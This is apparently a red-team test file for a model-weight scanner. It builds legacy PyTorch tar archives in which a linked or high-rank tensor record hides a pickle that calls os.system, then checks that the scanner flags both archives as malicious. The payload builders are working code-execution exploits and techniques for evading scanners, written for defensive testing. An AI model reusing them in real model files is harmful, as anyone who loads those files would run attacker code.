"""torch's legacy tar members reached through a link (red team).

torch.load's tar reader (``legacy_load``) gets ``storages`` and ``tensors`` with
``tarfile.extract`` and ``pickle`` with ``extractfile``; both follow a hard link (or a
symbolic link) to another member of the archive. The scanner reported the link and
analysed its target only as a plain file: the ``storages`` record stream then stopped at
the first raw storage bytes, and a record pickle after them that runs ``os.system``
under torch.load was never read (suspicious, for a file that runs code).
"""

from __future__ import annotations

import io
import struct
import tarfile
from pathlib import Path

from tests.fixtures.archives import rules_of, scan_bytes
from tests.scanner.redteam.build import proves_payload_runs
from weightscan.scanner import Verdict


def _text(value: str) -> bytes:
    raw = value.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def storages_stream(command: str) -> bytes:
    count = b"\x80\x02K\x02."
    record = b"\x80\x02(" + _text("0") + _text("cpu") + b"ctorch\nFloatStorage\nt."
    data = struct.pack("<q", 1) + b"\x00\x00\x80?"
    payload = b"\x80\x02cos\nsystem\n(" + _text(command) + b"tR."
    return count + record + data + payload


def linked_tar(command: str, link: bytes = tarfile.LNKTYPE) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:

        def add(name: str, data: bytes) -> None:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))

        add("sys_info", b"\x80\x02}.")
        add("records", storages_stream(command))
        info = tarfile.TarInfo("storages")
        info.type = link
        info.linkname = "records"
        tar.addfile(info)
        add("tensors", b"\x80\x02K\x00.")
        add("pickle", b"\x80\x02N.")
    return out.getvalue()


def test_storages_reached_through_a_hard_link_are_read_as_records() -> None:
    report = scan_bytes(linked_tar("touch /tmp/weightscan-redteam-tar"), name="m.pt")
    assert report.verdict is Verdict.MALICIOUS, rules_of(report)
    assert "pickle.import.malicious" in rules_of(report)


def test_proof_torch_load_follows_the_link(tmp_path: Path) -> None:
    assert proves_payload_runs(tmp_path, "torch", linked_tar, "m.pt")


def tensors_stream(rank: int, command: str) -> bytes:
    """A tensor record of any rank (torch reads rank int64 sizes and strides), then a
    record pickle that runs ``command``."""
    count = b"\x80\x02K\x02."
    record = b"\x80\x02(" + _text("0") + _text("0") + b"ctorch\nFloatTensor\nt."
    layout = struct.pack("<i", rank) + b"\0" * 4 + b"\0" * (16 * rank) + b"\0" * 8
    payload = b"\x80\x02cos\nsystem\n(" + _text(command) + b"tR."
    return count + record + layout + payload


def high_rank_tar(command: str, rank: int = 100) -> bytes:
    out = io.BytesIO()
    storages = (
        b"\x80\x02K\x01."
        + b"\x80\x02("
        + _text("0")
        + _text("cpu")
        + b"ctorch\nFloatStorage\nt."
        + struct.pack("<q", 1)
        + b"\x00\x00\x80?"
        + b"\x80\x02]."
    )
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in (
            ("storages", storages),
            ("tensors", tensors_stream(rank, command)),
            ("pickle", b"\x80\x02N."),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


def test_tensor_record_of_high_rank_is_followed() -> None:
    report = scan_bytes(high_rank_tar("touch /tmp/weightscan-redteam-rank"), name="m.pt")
    assert report.verdict is Verdict.MALICIOUS, rules_of(report)


def test_proof_torch_load_reads_a_high_rank_record(tmp_path: Path) -> None:
    assert proves_payload_runs(tmp_path, "torch", high_rank_tar, "m.pt")
